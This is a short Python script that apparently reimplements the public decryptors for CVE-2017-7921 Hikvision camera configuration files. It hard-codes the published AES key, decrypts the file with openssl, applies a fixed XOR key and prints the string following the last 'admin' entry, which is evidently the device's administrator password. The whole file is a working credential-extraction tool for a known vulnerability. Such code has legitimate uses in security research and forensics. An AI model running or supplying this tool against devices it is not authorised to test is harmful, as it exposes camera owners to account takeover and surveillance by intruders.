#!/usr/bin/env python3
"""decrypt_hik: the steps the public CVE-2017-7921 configuration-file decryptors take (written here
from their published description, our own code): drop the first 16-byte block, AES-128-ECB decrypt
with the published key (openssl, no padding), XOR with 73 8B 55 44 repeating, list the runs of the
characters they keep, and print the string after the last "admin"."""
import re
import subprocess
import sys

KEY = "279977f62f6cfd2d91cd75b889ce0c9a"
data = open(sys.argv[1], "rb").read()[16:]
data += b"\0" * (-len(data) % 16)
plain = subprocess.run(["openssl", "enc", "-d", "-aes-128-ecb", "-K", KEY, "-nopad"],
                       input=data, capture_output=True, check=True).stdout
xored = bytes(b ^ k for b, k in zip(plain, [0x73, 0x8B, 0x55, 0x44] * (len(plain) // 4 + 1)))
strings = re.findall(r"[A-Za-z0-9/\-:.,_$%'()\[\]<> ]{2,}", xored.decode("latin-1"))
last = max(i for i, s in enumerate(strings) if s == "admin")
print(strings[last + 1])
